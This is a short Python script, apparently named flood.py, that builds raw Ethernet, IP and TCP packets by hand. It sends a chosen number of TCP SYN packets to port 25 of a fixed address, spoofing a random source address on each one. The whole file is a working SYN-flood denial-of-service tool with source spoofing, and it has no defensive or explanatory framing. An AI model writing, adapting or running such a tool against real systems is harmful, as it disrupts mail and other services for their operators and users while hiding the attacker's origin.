#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# SYNs from everywhere.
# Usage: flood.py N MAC
import random, socket, struct, sys
n, mac = int(sys.argv[1]), bytes.fromhex(sys.argv[2].replace(":", ""))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("a0", 0))
head = mac + bytes(5) + b"\2\x08\0"
ip = struct.pack("!BBHHHBB", 0x45, 0, 40, 0, 0, 64, 6)
to = socket.inet_aton("198.51.100.72")
def words(data):
    return sum(struct.unpack("!%dH" % (len(data) // 2), data))
def checksum(total):
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
ip_sum, pseudo_sum = words(ip + to), words(to) + 6 + 20
for i in range(n):
    r = random.getrandbits(80)
    source = bytes([11 + r % 110]) + (r >> 8 & 0xffffff).to_bytes(3, "big")  # hosts, all of them
    tcp = struct.pack("!HHIIBBH", 1024 + (r >> 32) % 60000, 25, r >> 48 & 0xffffffff, 0, 0x50, 2, 1024)
    s.send(head + ip + struct.pack("!H", checksum(ip_sum + words(source))) + source + to + tcp
           + struct.pack("!HH", checksum(pseudo_sum + words(source) + words(tcp)), 0))
